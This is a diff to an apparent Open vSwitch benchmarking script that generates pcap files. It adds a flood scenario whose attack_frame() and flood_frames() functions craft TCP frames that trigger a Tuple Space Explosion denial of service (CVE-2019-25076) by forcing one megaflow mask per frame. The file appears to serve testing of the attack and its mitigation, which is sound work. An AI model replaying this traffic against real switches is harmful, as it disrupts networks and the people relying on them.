@@ -21,6 +21,10 @@ except IPv6/TCP, whose headers alone need 74):
   prefix    Ethernet/IPv4/UDP, flow i inside prefix rule i % 221 of
             prefix_rules(): every one of the 13 prefix lengths carries the
             same share of the traffic (scenario b)
+  flood     scenario (e): FLOOD_FRAMES frames, of which FLOOD_MASKS are
+            attack frames (Eth/IPv4/TCP, attack_frame(): each differs from
+            the scenario's ACL at its own bits, so each gets a megaflow mask
+            of its own) spread evenly among UDP frames of the flows
 Flow i of every IPv4 kind goes to 10.(i>>16 & 0xff).(i>>8 & 0xff).(i & 0xff)
 + 16.0.0.0, so nw_dst prefixes of the rules generator select known shares.
 """
@@ -50,9 +54,9 @@ def eth(ethertype: int, src: bytes = SRC_MAC, vlan: int = -1) -> bytes:
     return hdr + struct.pack("!H", ethertype)
 
 
-def ipv4(proto: int, dst: int, payload: bytes) -> bytes:
+def ipv4(proto: int, dst: int, payload: bytes, src: int = 0x0A000001) -> bytes:
     hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0x4000, 64, proto, 0,
-                      bytes([10, 0, 0, 1]), dst.to_bytes(4, "big"))
+                      src.to_bytes(4, "big"), dst.to_bytes(4, "big"))
     hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
     return hdr + payload
 
@@ -117,6 +121,41 @@ def prefix_frame(i: int) -> bytes:
     return pad(eth(0x0800) + ipv4(17, dst, udp(1024 + (i % 50000), 5000, 18)))
 
 
+# Scenario (e), a Tuple Space Explosion (CVE-2019-25076) inside the traffic
+# of one port.  The scenario's ACL has three one-field TCP rules (nw_src
+# 10.0.0.1, nw_dst 10.0.0.2, tp_src 1000); OVS's classifier un-wildcards of
+# each field only the prefix that tells a packet from the rule (its prefix
+# and ports tries), so attack frame m, which first differs from the rules at
+# bit i of nw_src, j of nw_dst and k of tp_src, gets a megaflow of its own
+# mask: FLOOD_MASKS frames make FLOOD_MASKS subtables.  The pcap repeats
+# forever, so every mask stays hit for as long as the attack is let through.
+FLOOD_MASKS = 2500
+FLOOD_FRAMES = 100000  # FLOOD_MASKS of them attack frames: 2.5%
+FLOOD_DST_PORT = 4000  # every attack frame's; the block rule matches it
+
+
+def attack_frame(m: int) -> bytes:
+    i, j, k = m % 32, (m // 32) % 32, (m // 1024) % 16
+    src = 0x0A000001 ^ (0x80000000 >> i)
+    dst = 0x0A000002 ^ (0x80000000 >> j)
+    sport = 1000 ^ (0x8000 >> k)
+    tcp = struct.pack("!HHIIBBHHH", sport, FLOOD_DST_PORT, 1, 0, 0x50, 0x02, 8192, 0, 0)
+    return pad(eth(0x0800) + ipv4(6, dst, tcp, src=src))
+
+
+def flood_frames(order) -> list:
+    """FLOOD_FRAMES frames: the legitimate UDP flows of `order`, cycled, and
+    attack frame m at position m * FLOOD_FRAMES / FLOOD_MASKS."""
+    frames, m = [], 0
+    for n in range(FLOOD_FRAMES):
+        if m < FLOOD_MASKS and n * FLOOD_MASKS >= m * FLOOD_FRAMES:
+            frames.append(attack_frame(m))
+            m += 1
+        else:
+            frames.append(frame("udp", order[(n - m) % len(order)]))
+    return frames
+
+
 def arp_reply() -> bytes:
     arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, SRC_MAC, bytes([10, 0, 0, 1]),
                       DST_MAC, bytes([10, 0, 0, 2]))
@@ -153,7 +192,8 @@ def main(out: str) -> None:
         rng.shuffle(prefix_order)
         write_pcap(os.path.join(out, f"prefix-{flows}.pcap"),
                    [prefix_frame(i) for i in prefix_order] + [arp_reply()])
-    print(f"wrote {len(FLOWS) * (len(KINDS) + 2)} pcaps to {out}")
+        write_pcap(os.path.join(out, f"flood-{flows}.pcap"), flood_frames(order) + [arp_reply()])
+    print(f"wrote {len(FLOWS) * (len(KINDS) + 3)} pcaps to {out}")
 
 
 if __name__ == "__main__":
